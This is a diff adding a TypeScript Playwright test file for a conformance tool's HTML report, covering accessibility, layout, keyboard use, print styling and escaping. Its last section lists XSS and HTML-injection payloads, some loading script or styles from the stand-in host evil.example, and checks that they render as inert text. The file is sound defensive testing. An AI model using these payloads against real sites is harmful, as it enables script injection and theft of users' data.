@@ -1,0 +1,151 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import axe from 'axe-core'
+import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
+import { REPORTERS } from '../../src/conformance/reporters/index.ts'
+import type { RunResult } from '../../src/conformance/result.ts'
+import { greenRun, INVOCATION, knownRun, runOfTexts, sampleRun, voidRun } from '../conformance/reporters/sample-run.ts'
+import { launchChromium, openWindow } from '../support/chromium.ts'
+
+let browser: Browser
+
+beforeAll(async () => {
+  browser = await launchChromium()
+})
+afterAll(() => browser?.close())
+
+const WIDE = { width: 1280, height: 900 }
+const PHONE = { width: 360, height: 740 }
+
+interface Opened {
+  page: Page
+  /** Its own address. */
+  address: string
+  /** Every address that was asked for. */
+  asked: string[]
+}
+
+/** The report of a run, opened from a file, as somebody does to whom it was sent. */
+async function openReport(run: RunResult, options: BrowserContextOptions = {}): Promise<Opened> {
+  const folder = mkdtempSync(join(tmpdir(), 'report-'))
+  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
+  const file = join(folder, 'report.html')
+  writeFileSync(file, REPORTERS.html.render(run, { colour: false, invocation: INVOCATION }))
+  const page = await openWindow(browser, options)
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  const address = pathToFileURL(file).href
+  await page.goto(address)
+  return { page, address, asked }
+}
+
+const overflowOf = (page: Page) => page.evaluate('document.documentElement.scrollWidth - innerWidth') as Promise<number>
+
+/** What axe finds wrong. The page runs no script, so the judge comes in by the debugger, whatever its policy says. */
+async function complaintsOf(page: Page): Promise<unknown> {
+  const judge = await page.context().newCDPSession(page)
+  await judge.send('Runtime.evaluate', { expression: axe.source })
+  const expression =
+    'axe.run().then(({ violations }) => JSON.stringify(violations.map(({ id, nodes }) => [id, nodes[0].html])))'
+  const { result } = await judge.send('Runtime.evaluate', { expression, awaitPromise: true })
+  return JSON.parse(result.value as string)
+}
+
+const RUNS = { red: knownRun, green: greenRun, void: voidRun }
+
+describe.each([
+  ['light', 'light', WIDE],
+  ['dark', 'dark', WIDE],
+  ['light on a phone', 'light', PHONE],
+  ['dark on a phone', 'dark', PHONE],
+] as const)('the report in %s', (_, colorScheme, viewport) => {
+  it.each(['red', 'green', 'void'] as const)('of a %s run fits and can be read by everybody', async (kind) => {
+    const { page } = await openReport(RUNS[kind](), { colorScheme, viewport })
+    expect(await overflowOf(page)).toBeLessThanOrEqual(0)
+    await page.evaluate('document.querySelectorAll("details").forEach((one) => { one.open = true })')
+    expect(await overflowOf(page)).toBeLessThanOrEqual(0)
+    expect(await page.evaluate('getComputedStyle(document.querySelector(".verdict")).borderTopWidth')).toBe('6px')
+    expect(await complaintsOf(page)).toEqual([])
+  })
+})
+
+it('shows only the rows that were asked for, without a script', async () => {
+  const { page } = await openReport(knownRun(), { javaScriptEnabled: false })
+  const visible = () => page.locator('tr.row:visible th').allTextContents()
+  expect(await visible()).toHaveLength(9)
+  await page.getByRole('radio', { name: 'Violated' }).check()
+  expect(await visible()).toEqual(['NONCE-01'])
+  await page.getByRole('radio', { name: 'Known' }).check()
+  expect(await visible()).toEqual(['AUTH-13'])
+  expect(await page.locator('table.area:visible').count()).toBe(1)
+  await page.getByRole('radio', { name: 'All' }).check()
+  expect(await visible()).toHaveLength(9)
+})
+
+it('is worked with the keyboard alone', async () => {
+  const { page } = await openReport(knownRun())
+  await page.keyboard.press('Tab')
+  expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the report')
+  await page.locator('#f-all').focus()
+  await page.keyboard.press('ArrowRight')
+  expect(await page.locator('#f-violated').isChecked()).toBe(true)
+  await page.locator('.scenario > summary').first().focus()
+  await page.keyboard.press('Enter')
+  expect(await page.locator('.scenario').first().getAttribute('open')).toBe('')
+})
+
+it('leads from a failure to its exchange, which unfolds', async () => {
+  const { page } = await openReport(sampleRun())
+  await page.getByRole('link', { name: 'exchange s2e1' }).click()
+  await page.locator('.exchange:target').waitFor({ state: 'visible' })
+  expect(await page.locator('.exchange:target .xid').textContent()).toBe('s2e1')
+})
+
+it('prints what is violated, on white, without transcripts', async () => {
+  const { page } = await openReport(knownRun(), { colorScheme: 'dark' })
+  await page.emulateMedia({ media: 'print' })
+  expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)')
+  expect(await page.locator('.failure').first().isVisible()).toBe(true)
+  expect(await page.locator('.exchange:visible, nav:visible').count()).toBe(0)
+})
+
+/** What has got through filters elsewhere: elements, handlers, addresses, ends of comments, styles and titles. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '"><script src=https://evil.example/x.js></script>',
+  '\'><img src=x onerror="alert(1)">',
+  '<svg/onload=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  'javascript:alert(1)',
+  '</style><style>@import "https://evil.example/x.css";*{background:url(https://evil.example/x)}</style>',
+  '</title></textarea></pre></code><body onload=alert(1)>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/"><link rel=stylesheet href=x>',
+  '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)>',
+  '<!--><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
+  '`${alert(1)}` {{constructor.constructor("alert(1)")()}}',
+  '\u0000<\u0000script>alert(1)\u2028\u202e\ufeff',
+]
+
+const ELEMENTS = 'JSON.stringify([...document.querySelectorAll("*")].map(({ localName }) => localName))'
+
+describe('what a target says', () => {
+  let elements: unknown
+
+  it('may be harmless', async () => {
+    const { page } = await openReport(runOfTexts(knownRun(), (was) => `${was}x/y`))
+    elements = await page.evaluate(ELEMENTS)
+  })
+
+  it.each(ATTACKS)('stands there as it is, without an element, a script or a request: %j', async (attack) => {
+    const { page, asked, address } = await openReport(runOfTexts(knownRun(), (was) => `${was}x/y${attack}`))
+    expect(await page.evaluate(ELEMENTS)).toBe(elements)
+    expect(asked).toEqual([address])
+    expect(await page.locator('a:not([href^="#"])').count()).toBe(0)
+    expect(await overflowOf(page)).toBeLessThanOrEqual(0)
+  })
+})
